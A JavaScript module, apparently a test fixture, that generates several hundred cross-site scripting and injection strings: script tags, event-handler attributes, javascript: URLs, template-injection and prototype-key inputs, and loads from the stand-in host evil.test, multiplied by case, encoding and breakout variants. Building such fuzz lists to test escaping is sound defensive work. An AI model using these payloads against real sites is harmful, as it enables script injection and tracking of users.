// Five hundred texts that attempt injection.

/** Payloads that run a script if text is parsed as markup. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<math href=javascript:alert(1)>x',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action=javascript:alert(1)><button>',
  '<style>@import "//evil.test"</style>',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content=0;//evil.test>',
  '<template><script>alert(1)</script>',
  '<img src=//evil.test/pixel>',
  '<audio src=x onerror=alert(1)>',
  '<b onmouseover=alert(1)>x',
  '<select autofocus onfocus=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<x contenteditable onblur=alert(1)>',
];

/** Payloads without markup: for attributes, URLs, templates and property names. */
const WORDS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '" onmouseover=alert(1) x="',
  "' onfocus=alert(1) autofocus='",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  ']]><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '__proto__',
  'constructor',
  'toString',
  'https://evil.test/"onmouseover="alert(1)',
  'http://evil.test/<script>alert(1)</script>',
  'https://user:pw@evil.test/',
  'http://[::1]:1/<x>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

/** Variations of each payload. */
const DRESSES = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</p>${text}`,
  (text) => `x ${text} y`,
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '<<'),
  (text) => `<!--${text}`,
  (text) => text.replaceAll('alert(1)', 'alert`1`'),
  (text) => `\`;${text}//`,
  (text) => `[x](${text})`,
];

/** All payloads, without duplicates. */
export const payloads = [...new Set(DRESSES.flatMap((dress) => [...MARKUP, ...WORDS].map(dress)))];

/** The first characters of a text, as many as a name or a title may have. */
export const shortened = (text, most) => [...text.replaceAll(/[\t\n]/g, ' ')].slice(0, most).join('').trim();
